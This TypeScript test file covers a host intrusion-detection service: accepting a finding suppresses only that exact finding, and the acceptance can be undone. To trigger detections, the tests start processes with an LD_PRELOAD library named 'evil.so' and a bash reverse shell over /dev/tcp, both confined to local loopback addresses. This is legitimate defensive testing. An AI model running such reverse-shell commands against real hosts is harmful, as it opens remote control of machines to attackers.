/** Accepting suppresses only what was shown, and can be undone: real processes and a real service. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { makeHome, runDesk, type Service, shownOf, startService, until } from './running.ts';

const test = suite('accepted');

interface ShownFinding {
  readonly id: string;
  readonly check: string;
  readonly evidence: Readonly<Record<string, unknown>>;
  readonly members: { readonly count: number; readonly pids: readonly number[] };
}

const findings = async (service: Service): Promise<readonly ShownFinding[]> =>
  (await service.get('/detection')).json.findings;

const found = (service: Service, check: string, pid: number) =>
  until(
    async () =>
      (await findings(service)).find((one) => one.check === check && one.members.pids.includes(pid)),
    `a finding of ${check} about ${pid}`,
  );

const gone = (service: Service, check: string, pid: number) =>
  until(
    async () =>
      !(await findings(service)).some((one) => one.check === check && one.members.pids.includes(pid)),
    `no finding of ${check} about ${pid}`,
  );

/** A process that ends at the end of the scope. */
function started(command: string, words: readonly string[], env: NodeJS.ProcessEnv = {}) {
  const child = spawn(command, [...words], { env: { PATH: '/usr/bin:/bin', ...env }, stdio: 'ignore' });
  return {
    pid: child.pid as number,
    [Symbol.asyncDispose]: async () => {
      child.kill('SIGKILL');
      if (child.exitCode === null && child.signalCode === null) await once(child, 'exit');
    },
  };
}

test('an accepted preload does not suppress another library, and counts again after it is taken back', async () => {
  const home = await makeHome('', { used: true });
  await using service = await startService(home);
  await using ours = started('sleep', ['600'], { LD_PRELOAD: '/opt/p.so' });
  await using same = started('sleep', ['601'], { LD_PRELOAD: '/opt/p.so' });
  await using evil = started('sleep', ['602'], { LD_PRELOAD: '/var/lib/evil.so' });
  const one = await found(service, 'preload-environment', ours.pid);
  const together = await found(service, 'preload-environment', same.pid);
  assert.is(together.id, one.id, 'equal ones are one finding');
  const other = await found(service, 'preload-environment', evil.pid);
  assert.is.not(other.id, one.id);

  const accepted = await runDesk(home, ['accept', one.id, '--why', 'our allocator']);
  assert.is(accepted.code, 0, accepted.stderr);
  assert.match(
    accepted.stdout,
    /covers[\s\S]*LD_PRELOAD +\/opt\/p\.so[\s\S]*Accepted/,
    'what it covers comes first',
  );
  await gone(service, 'preload-environment', ours.pid);
  await gone(service, 'preload-environment', same.pid);
  assert.is((await found(service, 'preload-environment', evil.pid)).id, other.id);

  const { entries } = (await service.get('/accepted')).json;
  assert.is(entries.length, 1);
  const listed = await runDesk(home, ['accept', '--list']);
  assert.match(listed.stdout, new RegExp(`${entries[0].id}[\\s\\S]*our allocator[\\s\\S]*/opt/p\\.so`));
  const undone = await runDesk(home, ['accept', '--undo', entries[0].id]);
  assert.is(undone.code, 0, undone.stderr);
  assert.is((await found(service, 'preload-environment', ours.pid)).id, one.id);
  assert.not.match(readFileSync(join(home.state, 'law.d/accepted.toml'), 'utf8'), 'p.so');
  const again = await service.post('/accept/undo', { id: entries[0].id }, service.bearer);
  assert.is(again.status, 404);
  assert.is((await service.post('/accept/undo', { id: entries[0].id })).status, 401);
});

test('an accepted shell on a socket does not suppress a shell with another connection', async () => {
  const server = createServer((socket) => socket.on('error', () => undefined)).listen(0, '0.0.0.0');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const shell = (address: string) =>
    started('bash', ['-c', `exec 0<>/dev/tcp/${address}/${port} 1>&0 2>&0; exec bash`]);
  try {
    const home = await makeHome('', { used: true });
    await using service = await startService(home);
    await using first = shell('127.0.1.1');
    // On a busy machine the socket table may be older than the connection: then its other end is unknown at first.
    const { id } = await until(async () => {
      const one = await found(service, 'shell-on-socket', first.pid);
      return one.evidence.peer_network === 'unknown' ? null : one;
    }, 'the other end of the connection');
    const accepts = await shownOf(service, id);
    const other = { finding: id, accepts: '0011223344aa', why: 'we look' };
    const refused = await service.post('/accept', other, service.bearer);
    assert.is(refused.status, 409);
    assert.match(refused.json.detail, /not what was shown any more/);
    assert.equal((await service.get('/accepted')).json.entries, []);
    const accepted = await service.post('/accept', { finding: id, accepts, why: 'we look' }, service.bearer);
    assert.is(accepted.status, 200);
    assert.ok(accepted.json.covers.some(({ key }: { key: string }) => key === 'peer_network'));
    await gone(service, 'shell-on-socket', first.pid);
    await using second = shell('127.0.2.1');
    await found(service, 'shell-on-socket', second.pid);
    await gone(service, 'shell-on-socket', first.pid);
  } finally {
    server.close();
  }
});

test.run();
